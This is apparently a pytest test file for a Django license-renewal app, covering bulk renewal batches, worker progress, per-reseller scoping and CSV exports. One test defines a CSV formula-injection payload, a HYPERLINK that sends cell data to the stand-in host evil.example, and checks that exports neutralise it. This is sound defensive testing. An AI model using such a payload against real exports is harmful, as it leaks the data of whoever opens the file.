import csv
import io
from datetime import date
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command
from django_tasks import default_task_backend

from common.errors import DomainError
from common.formatting import spreadsheet_cell
from customers import services as customer_services
from customers.models import LicenseType
from quotes import services
from quotes.models import Quote, RenewalBatch, RenewalItem
from quotes.signing import check_signature
from tests.conftest import make_installation
from tests.quotes.factories import add_ports, paid_until

WINDOW = date(2026, 7, 1)  # the coming 1 July on the suite's frozen clock (2026-03-05)


def due_installation(customer, name, *, until=date(2026, 7, 1), ports=5):
    installation = make_installation(customer, name)
    holding = add_ports(installation, ports, date(2023, 3, 3))
    paid_until(installation, until, [holding])
    return installation


def run_queued_tasks():
    """What the worker does: run every task the test backend collected, in order."""
    for result in list(default_task_backend.results):
        result.task.call(*result.args, **result.kwargs)
    default_task_backend.clear()


def make_batch(user, installations, capture):
    with capture(execute=True):
        return services.renewal_batch_create(user=user, installations=installations,
                                             window_end=WINDOW)


def test_the_worklist_shows_due_and_lapsed_installations_with_an_estimate(client, user_a,
                                                                         customer_a):
    due = due_installation(customer_a, "Due in July")
    lapsed = due_installation(customer_a, "Lapsed", until=date(2025, 7, 1))
    due_installation(customer_a, "Paid ahead", until=date(2027, 7, 1))
    client.force_login(user_a)
    page = client.get("/renewals/").context["page"]
    rows = {row.name: row for row in page.object_list}
    assert set(rows) == {"Due in July", "Lapsed"}
    assert rows["Due in July"].estimate == (370, pytest.approx(518))  # 5 ports × 74, 12 m
    assert rows["Lapsed"].months_lapsed == 8
    assert rows["Due in July"].months_lapsed == 0
    assert due.pk and lapsed.pk
    lapsed_only = client.get("/renewals/?lapsed=on").context["page"].object_list
    assert [row.name for row in lapsed_only] == ["Lapsed"]
    wider = client.get("/renewals/?window_end=2027-07").context["page"].object_list
    assert len(wider) == 3


def test_a_reseller_sees_only_its_own_installations_in_the_worklist(client, user_a, user_b,
                                                                    customer_a, customer_b):
    due_installation(customer_a, "Mine")
    due_installation(customer_b, "Theirs")
    client.force_login(user_b)
    assert [row.name for row in client.get("/renewals/").context["page"].object_list] == [
        "Theirs"]


def test_staff_issue_renewals_in_bulk_and_a_rerun_creates_nothing_new(
    staff, customer_a, customer_b, django_capture_on_commit_callbacks
):
    installations = [due_installation(customer_a, f"A{i}") for i in range(3)]
    installations.append(due_installation(customer_b, "B0"))
    created = make_batch(staff, installations, django_capture_on_commit_callbacks)
    assert (created.added, created.already_in_a_batch) == (4, 0)
    assert created.batch.progress() == {"total": 4, "done": 0, "failed": 0, "finished": False,
                                        "percent": 0}
    run_queued_tasks()
    progress = created.batch.progress()
    assert (progress["done"], progress["failed"], progress["finished"]) == (4, 0, True)
    numbers = sorted(Quote.objects.issued().values_list("number", flat=True))
    assert numbers == [f"SSA-2026-{n:05d}" for n in range(1, 5)]
    again = make_batch(staff, installations, django_capture_on_commit_callbacks)
    assert (again.added, again.already_in_a_batch) == (0, 4)
    run_queued_tasks()
    assert Quote.objects.count() == 4


def test_a_task_run_twice_makes_one_offer(staff, customer_a, django_capture_on_commit_callbacks):
    created = make_batch(staff, [due_installation(customer_a, "Once")],
                         django_capture_on_commit_callbacks)
    item = created.batch.items.get()
    services.renewal_item_run(item_id=item.pk)
    services.renewal_item_run(item_id=item.pk)
    assert Quote.objects.count() == 1


def test_failures_are_recorded_with_their_reason_and_can_be_retried(
    staff, customer_a, django_capture_on_commit_callbacks
):
    rented = make_installation(customer_a, "Rented only")
    holding = customer_services.holding_add(
        installation=rented, license_type=LicenseType.objects.get(code="port"), quantity=3,
        activated_on=date(2023, 3, 3), rented=True)
    paid_until(rented, WINDOW, [holding])
    created = make_batch(staff, [rented, due_installation(customer_a, "Fine")],
                         django_capture_on_commit_callbacks)
    run_queued_tasks()
    failed = created.batch.items.get(status=RenewalItem.Status.FAILED)
    assert failed.installation == rented and "Nothing is due" in failed.error
    assert created.batch.progress()["failed"] == 1
    with django_capture_on_commit_callbacks(execute=True):
        assert services.renewal_batch_retry_failed(batch=created.batch, user=staff) == 1
    run_queued_tasks()
    assert created.batch.items.get(pk=failed.pk).status == RenewalItem.Status.FAILED


def test_a_resellers_bulk_renewal_makes_drafts_marked_ready_to_issue(
    user_a, customer_a, customer_b, django_capture_on_commit_callbacks
):
    mine = due_installation(customer_a, "Mine")
    created = make_batch(user_a, [mine], django_capture_on_commit_callbacks)
    run_queued_tasks()
    quote = created.batch.items.get().quote
    assert quote.is_draft and quote.ready_to_issue
    with pytest.raises(DomainError, match="own customers"):
        services.renewal_batch_create(user=user_a, window_end=WINDOW,
                                      installations=[due_installation(customer_b, "Theirs")])


def test_the_batch_page_shows_progress_and_the_failures(client, staff, user_b, customer_a,
                                                        django_capture_on_commit_callbacks):
    client.force_login(staff)
    installations = [due_installation(customer_a, f"I{i}") for i in range(2)]
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/renewals/", {"installation": [i.pk for i in installations]})
    batch = RenewalBatch.objects.get()
    assert response["Location"] == f"/renewals/batches/{batch.pk}/"
    page = client.get(response["Location"]).content.decode()
    assert 'data-done="0"' in page and 'data-total="2"' in page and 'hx-trigger="every 1s"' in page
    run_queued_tasks()
    partial = client.get(response["Location"], HTTP_HX_REQUEST="true").content.decode()
    assert 'data-done="2"' in partial and "every 1s" not in partial
    client.force_login(user_b)
    assert client.get(response["Location"]).status_code == 404


def test_selecting_all_takes_the_whole_filtered_list(client, staff, customer_a,
                                                     django_capture_on_commit_callbacks):
    for i in range(3):
        due_installation(customer_a, f"All{i}")
    due_installation(customer_a, "Lapsed", until=date(2025, 7, 1))
    client.force_login(staff)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/renewals/?lapsed=on", {"all": "1"})
    assert [i.installation.name for i in RenewalItem.objects.all()] == ["Lapsed"]


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_bulk_renewal_runs_in_the_worker_with_progress_rising_to_the_total(
    settings, staff, customer_a
):
    """The worker (`db_worker`, the database backend) renews 50 installations; after every task
    the progress rises, never falls, and ends at the total; numbers have no gap; PDFs verify."""
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    installations = [due_installation(customer_a, f"Bulk {i:02d}", ports=1 + i % 7)
                     for i in range(50)]
    created = services.renewal_batch_create(user=staff, installations=installations,
                                            window_end=WINDOW)
    seen = [created.batch.progress()["done"]]
    while not created.batch.progress()["finished"]:
        call_command("db_worker", "--batch", "--max-tasks", "1", "--no-startup-delay",
                     stdout=StringIO(), stderr=StringIO())
        seen.append(created.batch.progress()["done"])
        assert len(seen) <= 60, "the worker made no progress"
    assert seen == sorted(seen) and seen[0] == 0 and seen[-1] == 50
    numbers = sorted(Quote.objects.issued().values_list("number", flat=True))
    assert numbers == [f"SSA-2026-{n:05d}" for n in range(1, 51)]
    for quote in Quote.objects.issued():
        with quote.pdf.open("rb") as pdf:
            assert check_signature(pdf.read()).genuine
    assert services.renewal_batch_create(user=staff, installations=installations,
                                         window_end=WINDOW).added == 0


# --- exports ---------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def test_the_offer_export_follows_the_filters_and_the_scope(client, staff, user_a, user_b,
                                                            customer_a, customer_b):
    mine = services.quote_issue(quote=services.quote_create(
        customer=customer_a, installations=[due_installation(customer_a, "X")], user=user_a),
        user=staff, prepare_pdf=False)
    services.quote_create(customer=customer_b, installations=[due_installation(customer_b, "Y")],
                          user=user_b)
    client.force_login(user_a)
    rows = read_csv(client.get("/offers/export.csv"))
    assert rows[0][0] == "Offer" and len(rows) == 2
    assert rows[1][0] == mine.number and rows[1][2] == customer_a.name
    assert rows[1][9] == format(mine.gross, "f").replace(".", ",")
    everything = "\n".join(";".join(row) for row in rows)
    assert "CANARY-B" not in everything
    client.force_login(staff)
    assert len(read_csv(client.get("/offers/export.csv"))) == 3
    assert len(read_csv(client.get("/offers/export.csv?state=draft"))) == 2


def test_the_renewal_export_contains_only_what_the_user_may_see(client, user_a, user_b,
                                                                customer_a, customer_b):
    due_installation(customer_a, "Mine")
    due_installation(customer_b, "Theirs")
    client.force_login(user_a)
    response = client.get("/renewals/export.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    assert [row[3] for row in rows[1:]] == ["Mine"]
    assert "CANARY-B" not in str(rows)


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Klikk her")'


def test_a_customer_named_like_a_formula_is_exported_inert_while_amounts_stay_numbers(
    client, staff, user_a
):
    evil = customer_services.customer_create(user=user_a, name=FORMULA)
    installation = due_installation(evil, "Hovedkontor")
    offer = services.quote_issue(quote=services.quote_create(
        customer=evil, installations=[installation], user=user_a), user=staff, prepare_pdf=False)
    client.force_login(staff)

    offers = read_csv(client.get("/offers/export.csv"))
    row = next(row for row in offers if row[0] == offer.number)
    assert row[2] == "'" + FORMULA
    assert row[6] == str(offer.total_ssc)
    assert row[7:] == [format(amount, "f").replace(".", ",")
                       for amount in (offer.net, offer.vat, offer.gross)]
    assert "," in row[9] and not row[9].startswith("'")

    renewals = read_csv(client.get("/renewals/export.csv"))
    row = next(row for row in renewals if row[3] == "Hovedkontor")
    assert row[1] == "'" + FORMULA
    assert row[6:8] == ["370", "518,00"]  # 5 ports × 74 SSC, 12 months; NOK 1.40 per SSC


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+47 55 00 00 00", "'+47 55 00 00 00"), ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tTab", "'\tTab"), ("\rCR", "'\rCR"),
    ("Fjordtann AS", "Fjordtann AS"), ("AS=1", "AS=1"), ("", ""), (None, ""),
    (Decimal("-12.50"), "-12,50"), (-3, "-3"), (Decimal("1036.00"), "1036,00"),
    (date(2026, 7, 1), "2026-07-01"),
])
def test_spreadsheet_cells_neutralise_formulas_but_not_numbers(value, cell):
    assert spreadsheet_cell(value) == cell
